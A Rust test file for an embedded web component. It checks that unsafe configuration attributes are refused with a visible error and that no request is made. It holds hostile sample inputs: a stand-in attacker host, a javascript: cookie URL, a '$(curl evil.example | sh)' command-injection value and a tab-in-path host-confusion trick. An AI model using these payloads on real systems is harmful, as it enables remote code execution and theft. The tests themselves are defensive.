//! A host page's settings can't point the tab somewhere unsafe: a refused setting shows a
//! visible configuration error and the tab makes no request.

use lev_harness::seed::*;
use lev_harness::*;

/// Mounts the element with `attributes` (after `before_start` ran in the page) and checks that
/// it shows the configuration error naming `attribute` and asks nothing. With `never_called`,
/// the page's `window.calls` (counted by a function `before_start` installed) must still be 0.
async fn refused(attributes: &str, before_start: &str, attribute: &str, never_called: bool) {
    let (env, _host) = embedded_env(attributes, before_start).await;
    env.sign_in(ADMIN).await;
    env.wait_rows(4).await;
    let before = env.requests_to("GET", "/me").len();
    env.browser
        .goto(&env.url("/embed.html"))
        .await
        .expect("embed page");
    env.wait_text("API keys can't be shown here").await;
    env.wait_text(attribute).await;
    let alert = env.css(".notice-error[role=alert]").await;
    assert!(alert.text().await.unwrap_or_default().contains("Fix: "));
    env.next_frames().await;
    assert_eq!(
        env.requests_to("GET", "/me")[before..],
        [],
        "a refused configuration makes no request"
    );
    // Nor to any other host: no fetch but the wasm itself.
    let fetches = env
        .browser
        .execute(
            "return performance.getEntriesByType('resource').filter(e => e.initiatorType === 'fetch' && !e.name.endsWith('.wasm')).map(e => e.name);",
            vec![],
        )
        .await
        .expect("resource entries");
    assert_eq!(
        fetches,
        serde_json::json!([]),
        "no fetch from the embedded tab"
    );
    assert!(env.all("tbody tr[data-key-id]").await.is_empty());
    if never_called {
        let calls = env
            .browser
            .execute("return window.calls;", vec![])
            .await
            .expect("read the page's count");
        assert!(
            calls.is_number(),
            "the page's counting function is missing: window.calls is {calls}"
        );
        assert_eq!(calls, serde_json::json!(0), "the named function was called");
    }
    env.close().await;
}

#[tokio::test]
async fn an_api_base_over_plain_http_to_another_host_is_refused() {
    refused(
        r#"api-base="http://api.evil.example/api/external/v2""#,
        "",
        r#"api-base="http://api.evil.example/api/external/v2""#,
        false,
    )
    .await;
}

#[tokio::test]
async fn a_sign_in_url_that_is_not_https_or_a_path_is_refused() {
    refused(
        r#"sign-in-url="javascript:alert(document.cookie)""#,
        "",
        "sign-in-url=",
        false,
    )
    .await;
}

#[tokio::test]
async fn a_token_provider_named_by_attribute_is_refused_and_never_called() {
    refused(
        r#"token-provider="leakToken""#,
        "window.calls = 0; window.leakToken = () => { window.calls += 1; return 'x'; };",
        "token-provider=",
        true,
    )
    .await;
}

#[tokio::test]
async fn an_origin_app_that_would_reach_a_shell_is_refused() {
    refused(
        r#"origin-app='x" $(curl evil.example | sh) "'"#,
        "",
        "origin-app=",
        false,
    )
    .await;
}

#[tokio::test]
async fn a_path_that_the_url_parser_reads_as_another_host_is_refused() {
    // A tab inside the path: every browser's parser drops it, leaving //evil.example/api.
    refused("api-base=\"/\t/evil.example/api\"", "", "api-base=", false).await;
}

#[tokio::test]
async fn the_package_has_no_settings_shell_and_refuses_one() {
    // The package is built without the `shell` feature: no routes, no router (the standalone
    // page's own build has them, and its tests run there).
    refused(r#"shell="settings""#, "", "shell=", false).await;
}
